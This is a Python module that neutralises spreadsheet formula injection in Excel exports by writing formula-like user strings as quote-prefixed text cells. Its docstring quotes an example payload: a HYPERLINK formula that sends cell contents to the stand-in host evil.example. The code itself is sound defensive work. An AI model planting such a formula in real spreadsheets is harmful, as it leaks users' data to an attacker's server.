"""Rows for the Excel exports in which text from users stays text, never a formula.

A citizen's description such as ``=HYPERLINK("http://evil.example/?x="&B2,"详情")`` would otherwise
become a live formula in the staff's spreadsheet (formula or "CSV" injection): openpyxl stores any
string starting with ``=`` as a formula, and spreadsheet programs treat ``+``, ``-``, ``@``, tab and
carriage return as the start of one when a cell is edited or the sheet is saved as CSV. OWASP's
guidance is to neutralise exactly these leading characters.

The value itself is kept unchanged, so staff read what the citizen wrote, and such a string is written
as a text cell (``t="s"``) with Excel's *quote prefix* flag: the state Excel gives a cell typed as
``'=1+2`` — it shows ``=1+2``, and it stays text when someone edits the cell. Numbers (negative plan
figures) and dates are left alone: only strings are ever touched.
"""
from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

#: Leading characters that make a spreadsheet program read a cell as a formula (OWASP CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def text_cell(*, sheet, value: str) -> WriteOnlyCell:
    """``value`` as a text cell of ``sheet`` with the quote prefix: shown as written, never evaluated."""
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_row(*, sheet, values: Iterable) -> list:
    """``values`` ready for ``sheet.append`` (normal or write-only sheet): formula-like strings become
    text cells, everything else goes in as it is."""
    return [text_cell(sheet=sheet, value=value) if is_formula_like(value) else value for value in values]
